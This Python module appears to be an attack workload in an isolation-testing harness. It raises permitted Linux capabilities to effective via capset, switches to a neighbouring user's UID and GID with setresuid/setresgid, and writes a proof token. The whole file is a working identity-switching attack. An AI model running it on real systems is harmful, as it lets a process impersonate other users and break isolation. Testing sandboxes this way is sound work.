"""Raise a permitted capability, then become the neighbour."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import ctypes
    import os
    import struct

    # capget(2), capset(2): version 3, two words of each set; 6 and 7 are CAP_SETGID and CAP_SETUID.
    libc = ctypes.CDLL(None, use_errno=True)
    header = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0))
    sets = ctypes.create_string_buffer(24)
    libc.capget(header, sets)
    effective, permitted, inheritable, *rest = struct.unpack("=6I", sets.raw[:24])
    if not permitted & 1 << 7:
        raise PermissionError("the permitted set has no CAP_SETUID")
    raised = struct.pack("=6I", effective | permitted, permitted, inheritable, *rest)
    if libc.capset(header, ctypes.create_string_buffer(raised)):
        raise OSError(ctypes.get_errno(), f"capset: {os.strerror(ctypes.get_errno())}")
    uid = given.neighbour_uid
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    with open(f"{given.drop}/raised_capability", "w") as file:
        file.write(given.token)
    return os.getresuid()


def proof(scene: Scene) -> str | None:
    return scene.gained_identity()
